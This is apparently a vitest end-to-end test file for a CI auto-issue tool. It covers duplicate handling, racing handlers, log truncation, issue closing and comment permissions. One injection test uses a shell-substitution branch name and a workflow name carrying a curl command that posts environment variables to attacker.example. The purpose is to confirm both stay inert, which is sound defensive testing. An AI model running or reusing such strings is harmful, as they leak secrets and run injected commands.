/**
 * auto-issue behaviours: a lost create response (API-04), racing handlers (STATE-02), watched
 * conclusions (AUTH-07), missing logs (LOG-05), closing on green, and the permission table
 * for commands (AUTH-02).
 */
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { verifyLedger } from "../../src/audit/ledger.js";
import { createWorld, makeTemplate, type World } from "../support/world.js";
import { auditPath, FAST, runAutoIssue, runComment } from "./e2e-helpers.js";

let templateRoot: string;
let template: { bare: string; baseSha: string };
let w: World;

beforeAll(() => {
  templateRoot = mkdtempSync(join(tmpdir(), "autodev-template-"));
  template = makeTemplate(templateRoot);
});
afterAll(() => rmSync(templateRoot, { recursive: true, force: true }));
afterEach(async () => {
  expect(w.fake.violations).toEqual([]);
  await w.close();
});

describe("auto-issue", () => {
  it("a 502 after the issue was created does not duplicate it (API-04)", async () => {
    w = await createWorld(template);
    w.fake.inject({ operationId: "issues/create", status: 502, when: "after" });
    const io = await runAutoIssue(w);
    expect(io.outputs.status).toBe("done");
    expect(w.fake.openIssues()).toHaveLength(1);
    expect(w.fake.requests.filter((r) => r.operationId === "issues/create")).toHaveLength(1);
  });

  it("two handlers racing on the same failure leave one open issue (STATE-02)", async () => {
    w = await createWorld(template);
    await Promise.all([runAutoIssue(w), runAutoIssue(w)]);
    expect(w.fake.openIssues().filter((i) => i.state === "open")).toHaveLength(1);
  });

  it.each(["cancelled", "skipped", "neutral", "action_required", "stale"])(
    "a %s run opens nothing (AUTH-07)",
    async (conclusion) => {
      w = await createWorld(template);
      w.fake.runs.get(w.runId)!.conclusion = conclusion;
      const io = await runAutoIssue(w, { conclusion });
      expect(io.outputs.status).toBe("skipped");
      expect(w.fake.mutations()).toEqual([]);
    },
  );

  it("a job whose log is gone still gets an issue naming the job and step (LOG-05)", async () => {
    w = await createWorld(template);
    const job = w.fake.runs.get(w.runId)!.jobs.find((j) => j.name === "lint")!;
    job.log = null;
    await runAutoIssue(w);
    const [issue] = w.fake.openIssues();
    expect(issue.body).toContain('Job "lint" failed at step "Run npx prettier --check ."');
  });

  it("closes its issue when the workflow goes green on the same branch, if configured", async () => {
    w = await createWorld(template);
    await runAutoIssue(w);
    w.fake.setFile(".autodev/config.yml", "issues: { close_on_success: true }\n");
    w.fake.runs.get(w.runId)!.conclusion = "success";
    const io = await runAutoIssue(w, { conclusion: "success" });
    expect(JSON.parse(io.outputs.closed)).toEqual([1]);
    expect(w.fake.issues[0].state).toBe("closed");
    // The same failure later reopens the issue instead of opening a new one.
    w.fake.runs.get(w.runId)!.conclusion = "failure";
    const again = await runAutoIssue(w, { attempt: 3 });
    expect(JSON.parse(again.outputs.issues)[0].action).toBe("reopened");
    expect(w.fake.issues).toHaveLength(1);
    expect(verifyLedger(readFileSync(auditPath(w), "utf8")).ok).toBe(true);
  });

  it("a 1 GiB job log is streamed with bounded memory and the issue says it was cut (LOG-01)", async () => {
    w = await createWorld(template);
    const job = w.fake.runs.get(w.runId)!.jobs.find((j) => j.name === "lint")!;
    job.log = "";
    job.hugeLog = {
      bytes: 1024 ** 3,
      line: "2026-11-23T10:00:00.0000000Z progress: compiling module 0123456789abcdef\n",
      tail: "2026-11-23T10:09:00.0000000Z ##[error]Process completed with exit code 1.\n",
    };
    const before = process.memoryUsage().rss;
    const io = await runAutoIssue(w, {
      deps: { clientOptions: { ...FAST.clientOptions, maxLogBytes: 8 * 1024 * 1024 } },
    });
    const grown = process.memoryUsage().rss - before;
    expect(io.outputs.status).toBe("done");
    expect(w.fake.openIssues()[0].body).toContain("larger than the download cap and was truncated");
    expect(grown).toBeLessThan(256 * 1024 * 1024);
  });

  it("hostile branch and workflow names stay inert text in the issue (INJ-01/02)", async () => {
    w = await createWorld(template);
    const marker = join(w.root, "pwned");
    const branch = `$({touch,${marker}})zzz";echo\${IFS}"hello";#`;
    const name = 'CI"; curl -d "$(env)" https://attacker.example #';
    const io = await runAutoIssue(w, { headBranch: branch, name });
    expect(io.outputs.status).toBe("done");
    const body = w.fake.openIssues()[0].body;
    expect(body).toContain("` " + branch + " `");
    expect(body).toContain("` " + name + " `");
    expect(body).not.toContain("](https://attacker.example");
    expect(existsSync(marker)).toBe(false);
  });

  it.each([
    ["CONTRIBUTOR", "write", "maintain", true],
    ["MEMBER", "read", "read", false],
    ["OWNER", "none", "none", false],
    ["NONE", "admin", "admin", true],
  ])(
    "author_association %s, permission %s (role %s): allowed %s (AUTH-02)",
    async (association, permission, role, allowed) => {
      w = await createWorld(template);
      await runAutoIssue(w);
      w.fake.permissions.set("someone", { permission, role_name: role });
      const io = await runComment(w, { login: "someone", issue: 1, association });
      expect(io.outputs.run).toBe(allowed ? "true" : "false");
    },
  );
});
